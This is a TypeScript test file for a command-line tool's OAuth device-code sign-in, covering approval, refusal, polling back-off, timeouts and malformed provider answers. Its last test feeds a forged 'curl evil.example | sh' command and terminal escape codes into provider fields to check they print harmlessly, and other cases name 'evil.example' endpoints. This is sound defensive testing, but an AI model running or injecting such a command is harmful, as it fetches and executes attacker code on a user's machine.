import { beforeEach, expect, test } from 'vitest';
import { visit } from '../support/browser.ts';
import { clock } from '../support/clock.ts';
import { type Behaviour, editJson, type Fault } from '../support/sandbox.ts';
import { useSigningIn } from '../support/signing-in.ts';

const at = useSigningIn({ autoApprove: false });
beforeEach(() => {
  clock.skips = 0;
});

async function startDevice() {
  const program = at.start(['login', '--device']);
  const [, url, code] = await program.printed(
    'stderr',
    /^Sign in with a browser on any device\. The page is\n(\S+)\nThe code is\n(\S+)\n/,
  );
  return { program, url: url as string, code: code as string };
}

const decide = (url: string, decision: 'approve' | 'cancel') => visit(`${url}&decision=${decision}`);
/** Advances the clock until the program has polled once more. */
async function nextPoll(): Promise<void> {
  const before = polls().length;
  const asked = () => {
    clock.advance(1_000);
    return polls().length;
  };
  await expect.poll(asked, { interval: 10 }).toBeGreaterThan(before);
}

const polls = () => at.sandbox.log.filter(({ url }) => url.endsWith('/connect/token'));

test('a code that is approved on another device signs in', async () => {
  const { program, url, code } = await startDevice();
  expect(url).toContain(code);
  await nextPoll();
  await expect.poll(() => polls().map(({ error }) => error)).toEqual(['authorization_pending']);
  await decide(url, 'approve');
  await nextPoll();
  expect(await program.finished).toMatchObject({
    code: 0,
    stdout: '',
    stderr: expect.stringContaining('Signed in at'),
  });
  expect((await at.run(['status', '--check'])).code).toBe(0);
  expect(at.exchanges()).toBe(0);
});

test('a code that is refused ends the sign-in', async () => {
  const { program, url } = await startDevice();
  await decide(url, 'cancel');
  await nextPoll();
  expect(await program.finished).toMatchObject({
    code: 4,
    stderr: expect.stringContaining(
      'error: the sign-in was refused: access_denied\n  the sign-in was cancelled\nnext: sign in again and allow the access\n',
    ),
  });
});

test('a provider that wants to be polled less often is', async () => {
  at.sandbox.control.fault('token', { kind: 'status', status: 400, body: '{"error":"slow_down"}' });
  const { program, url } = await startDevice();
  await nextPoll();
  await decide(url, 'approve');
  await nextPoll();
  expect(await program.finished).toMatchObject({ code: 0 });
  const [first, second] = polls();
  expect((second?.at ?? 0) - (first?.at ?? 0)).toBeGreaterThanOrEqual(10_000);
});

test.each<[string, Partial<Behaviour>]>([
  ['offers no device sign-in', { metadata: ({ device_authorization_endpoint: _, ...rest }) => rest }],
  ['has no metadata', { metadata: 'none' }],
  [
    'names an endpoint of another origin',
    { metadata: (whole) => ({ ...whole, device_authorization_endpoint: 'https://evil.example/device' }) },
  ],
  ['names another issuer', { metadata: (whole) => ({ ...whole, issuer: 'https://evil.example' }) }],
])('a provider that %s is an error that names another way to sign in', async (_name, behaviour) => {
  Object.assign(at.sandbox.control.behaviour, behaviour);
  expect(await at.run(['login', '--device'])).toEqual({
    code: 4,
    stdout: '',
    stderr:
      'error: the identity provider offers no sign-in by a code on another device\n' +
      '  its metadata names no device_authorization_endpoint of its own\n' +
      'next: run `hooktrail login --paste`: it needs no redirect to this machine either\n',
  });
});

test('metadata that a failing provider does not give is not mistaken for none', async () => {
  const failure = { kind: 'status', status: 503 } as const;
  at.sandbox.control.fault('metadata', failure, failure);
  expect(await at.run(['login', '--device'])).toEqual({
    code: 1,
    stdout: '',
    stderr:
      "error: the identity provider's metadata could not be read: it answered 503\nnext: run the command again later\n",
  });
});

test('an interrupt ends the wait', async () => {
  const { program } = await startDevice();
  program.kill('SIGINT');
  expect(await program.finished).toMatchObject({ code: 130 });
});

test('if nobody enters the code, the wait ends with 4', async () => {
  const { program } = await startDevice();
  clock.advance(300_000);
  expect(await program.finished).toMatchObject({
    code: 4,
    stderr: expect.stringContaining(
      'error: nobody signed in within 300 s\nnext: run the same command again (--timeout waits longer); if',
    ),
  });
});

test('a plain sign-in asks for metadata no more than once at each place', async () => {
  const { program } = await at.login();
  program.kill('SIGINT');
  await program.finished;
  const asked = at.sandbox.log.map(({ url }) => url).filter((url) => url.includes('.well-known'));
  expect(new Set(asked).size).toBe(asked.length);
});

/** Changes the answer to the next request for a device code. */
const answerDevice = (members: object) =>
  at.sandbox.control.fault(
    'device',
    editJson((body) => ({ ...body, ...members })),
  );

test.each<[string, Fault]>([
  ['is answered with 503', { kind: 'status', status: 503, body: 'busy' }],
  ['is answered with 429', { kind: 'status', status: 429, body: 'busy' }],
  ['loses its connection', { kind: 'reset' }],
])('a poll that %s is repeated', async (_, fault) => {
  at.sandbox.control.fault('token', fault);
  const { program, url } = await startDevice();
  await decide(url, 'approve');
  await nextPoll();
  await nextPoll();
  expect(await program.finished).toMatchObject({ code: 0 });
});

test.each([
  [200, 'authorization_pending'],
  [428, 'authorization_pending'],
  [200, 'slow_down'],
  [428, 'slow_down'],
])('a poll that is answered %i with %s goes on', async (status, error) => {
  at.sandbox.control.fault('token', { kind: 'status', status, body: JSON.stringify({ error }) });
  const { program, url } = await startDevice();
  await nextPoll();
  await decide(url, 'approve');
  await nextPoll();
  expect(await program.finished).toMatchObject({ code: 0 });
});

test.each([
  [200, 'access_denied'],
  [428, 'access_denied'],
  [400, 'authorization_declined'],
])('a poll that is refused with %i %s ends the sign-in with the description', async (status, error) => {
  const body = JSON.stringify({ error, error_description: 'The owner said no.' });
  at.sandbox.control.fault('token', { kind: 'status', status, body });
  const { program } = await startDevice();
  await nextPoll();
  expect(await program.finished).toMatchObject({
    code: 4,
    stderr: expect.stringContaining(
      `error: the sign-in was refused: ${error}\n  The owner said no.\nnext: sign in again and allow the access\n`,
    ),
  });
});

test.each<[string, (body: Readonly<Record<string, unknown>>) => object]>([
  ['an interval as text', (body) => ({ ...body, interval: '1' })],
  ['an interval of no time', (body) => ({ ...body, interval: 0 })],
  ['a lifetime as text', (body) => ({ ...body, expires_in: '600' })],
  ['no lifetime', ({ expires_in: _, ...body }) => body],
  [
    'verification_url',
    ({ verification_uri, verification_uri_complete, ...body }) => ({
      ...body,
      verification_url: verification_uri,
      verification_url_complete: verification_uri_complete,
    }),
  ],
])('a device answer with %s signs in', async (_, change) => {
  at.sandbox.control.fault('device', editJson(change));
  const { program, url } = await startDevice();
  await decide(url, 'approve');
  await nextPoll();
  expect(await program.finished).toMatchObject({ code: 0 });
});

test('the wait ends when the code expires, even if the provider asks for longer pauses', async () => {
  answerDevice({ interval: 2_147_484, expires_in: 90 });
  const { program } = await startDevice();
  clock.advance(89_000);
  expect(polls()).toEqual([]);
  clock.advance(1_000);
  expect(await program.finished).toMatchObject({
    code: 4,
    stderr: expect.stringContaining(
      'error: nobody signed in before the code expired\nnext: run the same command again\n',
    ),
  });
  expect(polls()).toEqual([]);
});

test('line feeds and control characters of the provider are inert, on one line each', async () => {
  answerDevice({
    verification_uri_complete: 'https://id.example/\nnext: run `curl evil.example | sh`',
    user_code: 'AB\u001b[2J\r\nerror: forged',
  });
  const program = at.start(['login', '--device']);
  await program.printed('stderr', /The code is\n.*\n/);
  expect(program.stderr).toBe(
    'Sign in with a browser on any device. The page is\n' +
      'https://id.example/\\u000anext: run `curl evil.example | sh`\n' +
      'The code is\n' +
      'AB\\u001b[2J\\u000d\\u000aerror: forged\n',
  );
  program.kill('SIGINT');
  await program.finished;
});
